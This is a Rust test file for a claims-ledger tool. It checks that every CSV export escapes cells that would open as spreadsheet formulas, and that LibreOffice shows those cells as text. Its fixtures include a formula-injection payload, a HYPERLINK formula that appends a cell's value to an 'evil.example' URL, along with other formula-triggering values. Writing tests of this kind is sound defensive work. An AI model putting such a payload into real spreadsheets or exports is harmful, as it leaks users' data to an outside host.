//! CSV that an editor opens in a spreadsheet: a cell that would run as a formula is written
//! as text, every CSV claimtrail writes does it, and its own CSV reads back exactly.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::Ledger;

const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")";

/// A ledger whose claims, claimants and outlets open like formulas, and one claim that
/// really begins with an apostrophe.
fn ledger() -> Ledger {
    let ledger = Ledger::new();
    ledger.add(&["--by", "@SUM(1+1)", "--via", "+1+1", "--note", "-2+3", LINK]);
    ledger.add(&["--by", "=1+1", "--", "-1+2 soldiers were killed"]);
    ledger.add(&[
        "--by",
        "Adnani",
        "--status",
        "false",
        "'=1+1 is what the post said",
    ]);
    ledger.add(&["--by", "Adnani", "'Tis the season, the spokesman said"]);
    ledger
}

/// Each CSV claimtrail writes, as (what it is, the file).
fn csv_files(ledger: &Ledger) -> Vec<(&'static str, PathBuf)> {
    let commands: [(&str, &[&str]); 6] = [
        ("list", &["list", "--all", "--format", "csv"]),
        ("show", &["show", "1", "--format", "csv"]),
        ("export", &["export", "--format", "csv"]),
        ("report", &["report", "--format", "csv"]),
        ("sources", &["sources", "--format", "csv"]),
        ("outlets", &["outlets", "--format", "csv"]),
    ];
    commands
        .into_iter()
        .map(|(name, args)| {
            let path = ledger.dir.path().join(format!("{name}.csv"));
            std::fs::write(&path, ledger.ok(args)).unwrap();
            (name, path)
        })
        .collect()
}

fn cells(path: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn opens_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn no_csv_claimtrail_writes_has_a_cell_that_opens_like_a_formula() {
    let ledger = ledger();
    for (name, path) in csv_files(&ledger) {
        let cells = cells(&path);
        let bad: Vec<&String> = cells
            .iter()
            .flatten()
            .filter(|c| opens_formula(c))
            .collect();
        assert!(bad.is_empty(), "{name}: {bad:?}");
        let guarded = cells
            .iter()
            .flatten()
            .filter(|c| c.starts_with('\''))
            .count();
        assert!(guarded > 0, "{name} has no guarded cell: {cells:?}");
    }
}

#[test]
fn its_own_csv_reads_back_to_the_exact_text() {
    let ledger = ledger();
    let sheet = ledger.dir.path().join("claims.csv");
    ledger.ok(&[
        "export",
        "--format",
        "csv",
        "--output",
        sheet.to_str().unwrap(),
    ]);
    let other = Ledger::new();
    other.ok(&["import", sheet.to_str().unwrap()]);
    let claims = other.json(&["list", "--all"]);
    let texts: Vec<&str> = claims
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["text"].as_str().unwrap())
        .collect();
    assert_eq!(
        texts,
        [
            LINK,
            "-1+2 soldiers were killed",
            "'=1+1 is what the post said",
            "'Tis the season, the spokesman said",
        ]
    );
    let first = other.json(&["show", "1"]);
    assert_eq!(first["attributions"][0]["claimant"], "@SUM(1+1)");
    assert_eq!(first["attributions"][0]["via"][0], "+1+1");
    assert_eq!(first["history"][0]["note"], "-2+3");
    assert_eq!(
        other.json(&["show", "2"])["attributions"][0]["claimant"],
        "=1+1"
    );
}

fn soffice() -> Option<PathBuf> {
    common::installed(&["soffice", "libreoffice"])
}

/// LibreOffice opens each CSV and saves what its cells show: a formula would show its value
/// ("details", "2"), text shows itself.
#[test]
fn libreoffice_shows_the_text_not_a_computed_value() {
    let Some(soffice) = soffice() else {
        // .ci/run installs LibreOffice; on a machine without it this check cannot be made.
        eprintln!("LibreOffice is not installed; skipping (.ci/run installs it)");
        return;
    };
    let ledger = ledger();
    let shown = ledger.dir.path().join("shown");
    let profile = ledger.dir.path().join("profile");
    for (name, path) in csv_files(&ledger) {
        let out = Command::new(&soffice)
            .arg(format!(
                "-env:UserInstallation=file://{}",
                profile.display()
            ))
            .args(["--headless", "--convert-to"])
            .arg("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false")
            .arg("--outdir")
            .arg(&shown)
            .arg(&path)
            .output()
            .expect("run LibreOffice");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let ours = cells(&path);
        let theirs = cells(&shown.join(format!("{name}.csv")));
        let mut checked = 0;
        for (r, row) in ours.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                if cell.starts_with('\'') {
                    assert_eq!(&theirs[r][c], cell, "{name}, row {r}, column {c}");
                    checked += 1;
                }
            }
        }
        assert!(checked > 0, "{name}: nothing guarded to check");
        let all: Vec<&String> = theirs.iter().flatten().collect();
        assert!(!all.iter().any(|c| *c == "details"), "{name}: a live link");
    }
}
